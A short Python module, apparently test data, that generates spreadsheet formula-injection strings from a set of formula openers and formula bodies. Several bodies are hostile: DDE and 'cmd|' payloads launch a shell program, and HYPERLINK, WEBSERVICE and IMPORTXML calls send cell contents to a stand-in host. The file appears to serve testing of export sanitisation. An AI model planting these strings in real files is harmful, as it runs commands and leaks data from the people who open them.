"""Text that a spreadsheet would like to run: what opens a formula, and what it would do."""

from itertools import product

OPENINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "'=", '"=', "=+", "-+", "@@", "%=")
CALLS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://198.51.100.7/?"&A1,"open")',
    "SUM(1,1)*7",
    'IMPORTXML("http://198.51.100.7","//a")',
    'WEBSERVICE("http://198.51.100.7/"&A1)',
    'DDE("cmd","/C calc","__DdeLink")',
    'INDIRECT("stamp!B2")',
    "A1",
    "2+3+cmd|' /C calc'!A0",
    "NOW()",
    'CHAR(61)&"1+1"',
    'IF(1,"evaluated","")',
    "$A$1:$B$2",
    "{1,2;3,4}",
    "RAND()",
    "'C:\\x.xls'!A1",
    "#REF!",
    "TRUE()",
    "1E3*1",
)
PAYLOADS = tuple(opening + call for opening, call in product(OPENINGS, CALLS))
